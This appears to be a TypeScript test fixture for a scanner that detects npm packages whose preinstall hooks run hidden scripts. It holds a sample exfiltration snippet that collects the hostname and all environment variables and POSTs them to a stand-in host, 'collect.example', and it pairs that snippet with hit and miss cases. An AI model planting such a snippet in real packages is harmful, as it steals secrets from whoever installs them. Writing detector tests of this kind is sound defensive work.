// Packages whose hooks run what is in them.
import type { FileFacts } from '../../../src/file/facts.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'
import { fileFacts } from '../empty-facts.ts'
import { type FactCases, scripted } from './case.ts'

function member(name: string, given: Partial<FileFacts>): FileFacts {
  return fileFacts({ name, path: `p.tgz/${name}`, depth: 1, relation: 'archive_member', ...given })
}
function manifest(command: string): FileFacts {
  return member('package/package.json', {
    automation: {
      kind: 'package_manifest',
      isUnasked: true,
      commands: [{ when: 'scripts.preinstall', text: command }],
      script: readScript(command, 'shell').facts,
    },
  })
}
const THEFT =
  'const o = { h: os.hostname(), e: process.env }; https.request({ hostname: "collect.example", method: "POST" }).end(JSON.stringify(o))'
const theft = (name: string): FileFacts => member(name, scripted('javascript', THEFT))

export const PACKAGES: FactCases = {
  package_hook_runs_attack: {
    hits: {
      'a file beside the manifest': { children: [manifest('node setup.js'), theft('package/setup.js')] },
      'in a folder': { children: [manifest('node ./scripts/post.js'), theft('package/scripts/post.js')] },
    },
    misses: {
      'a file that no hook names': { children: [manifest('node build.js'), theft('package/setup.js')] },
      'a hook that builds': {
        children: [
          manifest('node build.js'),
          member('package/build.js', scripted('javascript', 'require("esbuild").buildSync({})')),
        ],
      },
      'a file of another package': { children: [manifest('node setup.js'), theft('other/setup.js')] },
    },
  },
}
